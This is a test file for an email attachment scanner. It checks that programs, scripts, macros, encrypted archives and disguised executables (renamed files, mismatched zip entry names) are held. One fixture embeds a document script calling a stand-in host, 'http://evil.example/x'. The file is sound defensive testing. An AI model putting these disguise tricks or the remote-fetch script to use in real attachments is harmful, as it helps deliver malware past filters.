/** Facts about attachments decide: what runs is held wherever it lies, and no good sender outweighs it. */
import { gzipSync } from 'node:zlib'
import { MAIL_MODES } from '@postern/contract/codes/mail.ts'
import { oleOf, olePackageOf, tarOf, zipOf, type ZipEntry } from '@postern/testkit/containers.ts'
import { expect, test } from 'vitest'
import { judge } from '../../testing/judge.ts'
import { letterWith } from '../../testing/letter.ts'

const PE = Buffer.alloc(200)
PE.write('MZ')
PE.writeUInt32LE(64, 60)
PE.write('PE\0\0', 64)
const TEXT = Buffer.from('whatever')
const VBA = oleOf([
  ['_VBA_PROJECT', TEXT],
  ['PROJECT', TEXT],
])

function office(folder: string, ...more: ZipEntry[]): Buffer {
  return zipOf([
    { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
    { name: `${folder}/document.xml`, content: Buffer.from('<w/>') },
    ...more,
  ])
}

const MACROS = { name: 'word/vbaProject.bin', content: VBA }

async function result(
  name: string,
  content: Buffer,
  hold = true,
): Promise<{ held: boolean; codes: string[] }> {
  const { verdicts, findings } = await judge(letterWith(name, content), { hold })
  return {
    held: verdicts[0]!.mode === MAIL_MODES.block,
    codes: findings
      .map(({ code }) => code)
      .filter((code) => code.startsWith('structure.attachment-') || code.startsWith('virus.'))
      .map((code) => code.replace('structure.attachment-', '')),
  }
}

test.each<[string, string, Buffer, string]>([
  ['a program', 'run.exe', PE, 'program'],
  ['a program in an archive', 'a.zip', zipOf([{ name: 'offer/run.exe', content: PE }]), 'program'],
  ['a script in an archive', 'a.zip', zipOf([{ name: 'offer.js', content: TEXT }]), 'script'],
  [
    'a script in an archive in an archive',
    'a.tgz',
    gzipSync(tarOf('b.zip', zipOf([{ name: 'x.vbs', content: TEXT }]))),
    'script',
  ],
  ['a shortcut in an archive', 'a.zip', zipOf([{ name: 'offer.pdf.lnk', content: TEXT }]), 'shortcut'],
  ['an image of a disk', 'backup.iso', TEXT, 'disk-image'],
  ['an image of a disk in an archive', 'a.zip', zipOf([{ name: 'offer.img', content: TEXT }]), 'disk-image'],
  ['a program called a text', 'offer.txt', PE, 'disguised'],
  [
    'a program called a text in an archive',
    'a.zip',
    zipOf([{ name: 'offer.txt', content: PE }]),
    'disguised',
  ],
  [
    'a program packed into a document',
    'a.doc',
    oleOf([['\u0001Ole10Native', olePackageOf('offer.exe', PE)]]),
    'program',
  ],
  ['a program as a stream of a document', 'a.doc', oleOf([['Data', PE]]), 'disguised'],
  ['a program under its other name', 'a.zip', renamed('offer.exe', 'offer.txt'), 'program'],
  ['an encrypted archive', 'a.zip', zipOf([{ name: 'a.txt', content: TEXT, flags: 1 }]), 'encrypted'],
  [
    'an encrypted archive in an archive',
    'a.zip',
    zipOf([{ name: 'b.zip', content: zipOf([{ content: TEXT, flags: 1 }]) }]),
    'encrypted',
  ],
])('%s is held, unless the setting says otherwise', async (_title, name, content, code) => {
  const strict = await result(name, content)
  expect(strict.codes).toContain(code)
  expect(strict.held).toBe(true)
  const lenient = await result(name, content, false)
  expect(lenient.codes).toContain(code)
  expect(lenient.held).toBe(false)
})

/** The head of an X.509 certificate; what follows makes no difference to its kind. */
const CERTIFICATE = Buffer.from('308202f7308201dfa0030201020214', 'hex')

test.each<[string, Buffer, string[]]>([
  ['a.accde', TEXT, ['unsafe']],
  ['a.ppam', TEXT, ['program']],
  ['a.oqy', TEXT, ['shortcut']],
  ['a.wsb', TEXT, ['script']],
  ['a.crt', TEXT, ['unsafe']],
  ['a.crt', CERTIFICATE, []],
  ['a.tmp', TEXT, ['unsafe']],
  ['a.tmp', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), []],
  ['a.mat', Buffer.from('MATLAB 5.0 MAT-file, Platform: GLNXA64'), []],
  ['a.py', TEXT, ['source']],
])('%s is judged by name and bytes, within an archive too', async (name, content, codes) => {
  for (const [outer, bytes] of [
    [name, content],
    ['a.zip', zipOf([{ name, content }])],
  ] as const) {
    const found = await result(outer, bytes)
    expect(found.codes).toEqual(codes)
    expect(found.held).toBe(codes.length > 0 && codes[0] !== 'source')
  }
})

/** The directory and the header in front of the data give one entry two names of the same length. */
function renamed(central: string, local: string): Buffer {
  const bytes = zipOf([{ name: central, content: TEXT }])
  bytes.write(local, bytes.indexOf(central), 'latin1')
  return bytes
}

test.each<[string, string, Buffer, string[]]>([
  ['macros', 'a.docm', office('word', MACROS), ['macro']],
  ['macros under another name', 'a.docm', office('word', { ...MACROS, name: 'word/printer.bin' }), ['macro']],
  ['macros named like a document without', 'a.docx', office('word', MACROS), ['macro-disguised']],
  [
    'macros in a document in an archive',
    'a.zip',
    zipOf([{ name: 'b.docx', content: office('word', MACROS) }]),
    ['macro-disguised'],
  ],
  ['macros of the binary format', 'a.doc', VBA, ['macro']],
  ['a document without', 'a.docx', office('word'), []],
  [
    'an archive of pictures',
    'a.zip',
    zipOf([{ name: 'a.png', content: Buffer.from('\x89PNG\r\n\x1a\n', 'latin1') }]),
    [],
  ],
])('%s: %s', async (_title, name, content, codes) => {
  const { held, codes: given } = await result(name, content)
  expect(given.filter((code) => code.startsWith('macro'))).toEqual(codes)
  expect(held).toBe(codes.includes('macro-disguised'))
})

const hwp = (script: string): Buffer => {
  const header = Buffer.alloc(256)
  header.write('HWP Document File')
  const text = Buffer.from(script, 'utf16le')
  const length = Buffer.alloc(4)
  length.writeUInt32LE(text.length / 2)
  const end = Buffer.from('00000000ffffffff', 'hex')
  return oleOf([
    ['FileHeader', header],
    ['BodyText', TEXT],
    ['Scripts/DefaultJScript', Buffer.concat([length, text, end])],
  ])
}
const EMPTY_SCRIPT =
  'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\nfunction OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n'

test('the script that every HWP document has is no macro, one that does something is', async () => {
  expect((await result('a.hwp', hwp(EMPTY_SCRIPT))).codes).toEqual([])
  const active = EMPTY_SCRIPT.replace('//todo :', 'Documents.Open("http://evil.example/x");')
  expect((await result('a.hwp', hwp(active))).codes).toEqual(['macro'])
})
